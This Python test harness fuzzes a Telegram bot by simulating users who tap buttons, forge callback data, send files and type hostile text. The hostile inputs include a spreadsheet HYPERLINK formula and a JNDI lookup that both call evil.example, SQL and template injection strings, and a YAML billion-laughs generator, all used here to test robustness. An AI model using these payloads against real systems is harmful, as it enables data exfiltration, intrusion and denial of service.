"""The walk's world: hostile documents, the bot as a process, the people who tap and type."""

from __future__ import annotations

import asyncio
import os
import signal
import sys
import time
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any

from tests.fakes import FakeMessage, FakeTelegram, TgUser, tiny_png
from tests.fakes.telegram import RecordedRequest

if TYPE_CHECKING:
    from benchmarks.walk.walking import Walk

ROOT = Path(__file__).resolve().parents[2]  # the repository
TOKEN = "123456789:WALK-token-for-the-fake-bot-api-00000"
ADMIN_TG_ID = 700_000_001
FIRST_USER_TG_ID = 700_000_100
# A message the bot has taken and said nothing about for this long is taken as left unanswered.
SILENCE = 2.0

# --- what people type --------------------------------------------------------------------------

HOSTILE_TEXTS = (
    "Я" * 4096,
    "A" * 4000 + " конец",
    "<b>жирный</b> <i>курсив",
    "</b></i><a href='javascript:alert(1)'>ссылка</a>",
    "&amp; &lt; & < > &#0; &unknown;",
    '=HYPERLINK("http://evil.example/?"&A2,"Нажмите")',
    "+7 (999) 000-00-00",
    "-1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\x01\x02\x03 управляющие символы \x7f\x1b[31m",
    "строка\nперенос\r\nи ещё\rодна",
    "😀👩‍🏫🇷🇺🙂‍↔️",
    "\u200b",
    "\u202eвперёд-назад",
    "'; DROP TABLE users; --",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} %s %d %(name)s {0}",
)
PLAUSIBLE_TEXTS = (
    "Иванова Мария Петровна",
    "Петров Пётр",
    "Ольга",
    "0",
    "2",
    "15",
    "150",
    "99999999999999999999",
    "1998",
    "1890",
    "2031",
    "30.11.2026 15:00",
    "31.02.2026 25:61",
    "01.12.2026",
    "завтра",
    "https://example.org/webinar",
    "https://example.org/a b\nc",
    "Школа № 5 на Советской",
    "Разбор ВПР по математике",
    "да",
    "Спасибо!",
)
COMMANDS = (
    "/start",
    "/menu",
    "/help",
    "/cancel",
    "/profile",
    "/mydata",
    "/roles",
    "/invite",
    "/language",
    "/unknown",
    "/start i-garbage",
    "/start@metodist_test_bot",
    "/menu extra words",
)
FORGED_GARBAGE = ("", "x" * 64, ":::", "menu:", "menu:nope", "rt:view:abc:0:0:", "ev:open:-1:x:0", "🙂" * 16)


def _yaml_bomb() -> bytes:
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i, name in enumerate("bcdefghi"):
        prev = "abcdefghi"[i]
        lines.append(
            f"{name}: &{name} [*{prev},*{prev},*{prev},*{prev},*{prev},*{prev},*{prev},*{prev},*{prev}]"
        )
    return ("\n".join(lines) + "\n").encode()


def _documents() -> list[tuple[str, bytes, str]]:
    general = (ROOT / "bot/content/questionnaires/general.yaml").read_bytes()
    return [
        ("general.yaml", general.replace(b"version: 1\n", b"version: 77\n", 1), "application/x-yaml"),
        ("bomb.yaml", _yaml_bomb(), "application/x-yaml"),
        ("big.yaml", b"items:\n" + b"  - id: x\n    text: y\n" * 30_000, "application/x-yaml"),
        ("broken.yaml", b"id: [unclosed\n\t- :", "application/x-yaml"),
        ("notes.txt", 'заметки =HYPERLINK("x")\x01'.encode(), "text/plain"),
        (
            "report.pdf",
            b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF",
            "application/pdf",
        ),
        ("table.xlsx", os.urandom(2048), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("photo.png", tiny_png(4, 4), "image/png"),
    ]


SURNAMES = ("Иванова", "Петрова", "Смирнова", "Кузнецова", "Попова", "Соколова", "Лебедева", "Козлова")
NAMES = ("Анна", "Мария", "Елена", "Ольга", "Татьяна", "Наталья", "Ирина", "Светлана")
PATRONYMICS = ("Петровна", "Ивановна", "Сергеевна", "Андреевна", "Олеговна")


# --- the bot as a process ----------------------------------------------------------------------


class BotProcess:
    """``python -m bot`` on a database that outlives it; every run's log goes to one file."""

    def __init__(
        self, base_url: str, database_url: str, workdir: Path, log_path: Path, redis_url: str | None = None
    ) -> None:
        self.base_url = base_url
        self.database_url = database_url
        self.redis_url = redis_url
        self.workdir = workdir
        self.log_path = log_path
        self.proc: asyncio.subprocess.Process | None = None
        self.starts = 0

    async def start(self, fake: FakeTelegram, timeout: float = 60.0) -> None:  # noqa: ASYNC109
        keep = {k: v for k, v in os.environ.items() if k not in {"DATABASE_URL", "REDIS_URL", "ADMIN_IDS"}}
        env = {
            **keep,
            "BOT_TOKEN": TOKEN,
            "TELEGRAM_API_URL": self.base_url,
            "DATABASE_URL": self.database_url,
            "ADMIN_IDS": str(ADMIN_TG_ID),
            "PYTHONPATH": str(ROOT),
            "LOG_LEVEL": "INFO",
            **({"REDIS_URL": self.redis_url} if self.redis_url else {}),
        }
        polls = len(fake.requests_for("getUpdates"))
        with self.log_path.open("ab") as log:
            log.write(f"\n===== walk: bot start #{self.starts + 1} =====\n".encode())
            log.flush()
            self.proc = await asyncio.create_subprocess_exec(
                sys.executable, "-m", "bot", cwd=self.workdir, env=env, stdout=log, stderr=log
            )
        self.starts += 1
        deadline = time.monotonic() + timeout
        while len(fake.requests_for("getUpdates")) <= polls:
            if self.proc.returncode is not None:
                raise RuntimeError(f"the bot exited with {self.proc.returncode}; see {self.log_path}")
            if time.monotonic() > deadline:
                raise RuntimeError(
                    f"the bot did not start polling within {timeout:.0f} s; see {self.log_path}"
                )
            await asyncio.sleep(0.05)

    async def kill(self) -> None:
        """SIGKILL: no shutdown, no flush; only the database remains."""
        if self.proc is not None and self.proc.returncode is None:
            self.proc.send_signal(signal.SIGKILL)
            await self.proc.wait()

    async def stop(self, timeout: float = 30.0) -> int | None:  # noqa: ASYNC109
        if self.proc is None or self.proc.returncode is not None:
            return self.proc.returncode if self.proc else None
        self.proc.send_signal(signal.SIGTERM)
        try:
            return await asyncio.wait_for(self.proc.wait(), timeout)
        except TimeoutError:
            await self.kill()
            return None


# --- people ------------------------------------------------------------------------------------


@dataclass
class Step:
    at: float  # time.monotonic() when the person acted
    chat_id: int
    label: str


class Walker(TgUser):
    """A person who acts, then waits for the bot's reply (a message, an edit, the answer to a tap)
    and for the chat to go quiet, before acting again — or gives up after ``step_timeout``."""

    def __init__(self, walk: Walk, user_id: int, first_name: str) -> None:
        super().__init__(walk.fake, self._deliver_and_wait, user_id, first_name=first_name)
        self.walk = walk
        self.silent = 0

    async def _deliver_and_wait(self, update: dict[str, Any]) -> None:
        # People read before they tap (and the bot throttles anyone faster than about two a second).
        await asyncio.sleep(self.walk.think())
        await self.walk.bot_up.wait()
        fake = self.walk.fake
        mark = len(fake.requests)
        callback = update.get("callback_query")
        # Telegram numbers updates as they arrive: one made before the pause must not arrive with an
        # id below what the bot has already confirmed (it would never be delivered).
        update["update_id"] = fake.new_update_id()
        update_id = fake.push_update(update)
        if callback is not None:
            self.walk.callback_updates[callback["id"]] = update_id
        loop = asyncio.get_running_loop()
        deadline = loop.time() + self.walk.step_timeout
        seen = 0
        quiet_since = loop.time()
        while loop.time() < deadline:
            await asyncio.sleep(0.04)
            mine = sum(1 for r in fake.requests[mark:] if self._concerns_me(r))
            if mine != seen:
                seen, quiet_since = mine, loop.time()
                continue
            quiet = loop.time() - quiet_since
            if callback is not None:
                if fake.callback(callback["id"]).answered and quiet >= self.walk.quiet:
                    return
            elif seen and quiet >= self.walk.quiet:
                return
            elif fake.is_processed(update_id) and quiet >= SILENCE:
                break  # taken, and nothing came back: a message the bot let pass (a throttled one)
        self.silent += 1

    def _concerns_me(self, request: RecordedRequest) -> bool:
        if request.params.get("chat_id") == self.chat_id:
            return True
        if request.method == "answerCallbackQuery":
            callback_id = str(request.params.get("callback_query_id"))
            record = self.walk.fake._callbacks_by_id.get(callback_id)
            return record is not None and record.user_id == self.id
        return False

    def note(self, label: str) -> None:
        self.walk.steps.append(Step(time.monotonic(), self.chat_id, label))

    # --- the random actions

    def _keyboard_messages(self) -> list[FakeMessage]:
        return [m for m in self.messages if any("callback_data" in b for b in m.inline_buttons)]

    async def tap(self, message: FakeMessage, *, label: str, twice: bool = False) -> None:
        buttons = [b for b in message.inline_buttons if "callback_data" in b]
        button = self.walk.rng.choice(buttons)
        data = str(button["callback_data"])
        self.note(f"{label} «{button.get('text')}» ({data})")
        if twice:
            first = self.fake.make_callback_update(self.user, message, data)
            self.walk.callback_updates[first["callback_query"]["id"]] = self.fake.push_update(first)
        await self._send_callback(message, data, expect_answer=False, label=label)

    async def act(self) -> None:
        rng = self.walk.rng
        kinds = (
            "tap",
            "tap_old",
            "reply_keyboard",
            "forge",
            "hostile",
            "plausible",
            "command",
            "media",
            "double",
        )
        weights = (44, 7, 5, 6, 8, 9, 10, 5, 6)
        kind = rng.choices(kinds, weights)[0]
        keyboards = self._keyboard_messages()
        if kind in {"tap", "double", "tap_old"} and keyboards:
            message = keyboards[-1] if kind != "tap_old" else rng.choice(keyboards)
            await self.tap(
                message,
                label={"tap": "tapped", "double": "double-tapped", "tap_old": "tapped an old"}[kind],
                twice=kind == "double",
            )
        elif kind == "reply_keyboard" and self.reply_keyboard:
            text = rng.choice(self.reply_keyboard)
            self.note(f"pressed the reply button «{text}»")
            await self.send(text)
        elif kind == "forge" and (self.messages or keyboards):
            data = self.walk.forged_data()
            self.note(f"forged callback data {data!r}")
            target = keyboards[-1] if keyboards else self.messages[-1]
            await self._send_callback(target, data, expect_answer=False, label="forged")
        elif kind == "hostile":
            text = rng.choice(HOSTILE_TEXTS)
            self.note(f"typed hostile text {text[:40]!r}{'…' if len(text) > 40 else ''}")
            await self.send(text)
        elif kind == "media":
            await self.send_media()
        elif kind == "command" or not keyboards:
            text = rng.choice(COMMANDS)
            self.note(f"typed {text!r}")
            await self.send(text)
        else:
            text = rng.choice(PLAUSIBLE_TEXTS)
            self.note(f"typed {text[:40]!r}")
            await self.send(text)

    async def send_media(self) -> None:
        rng = self.walk.rng
        choice = rng.randrange(4)
        if choice == 0:
            self.note("sent a sticker")
            await self.send_sticker()
        elif choice == 1:
            self.note("sent a photo")
            await self.send_photo(tiny_png(3, 2), caption=rng.choice((None, "<b>фото</b>", "=1+1")))
        else:
            name, content, mime = rng.choice(self.walk.documents)
            self.note(f"sent the document {name}")
            await self.send_document(name, content, mime, caption=rng.choice((None, "отчёт", "\x01")))


# --- the walk ----------------------------------------------------------------------------------
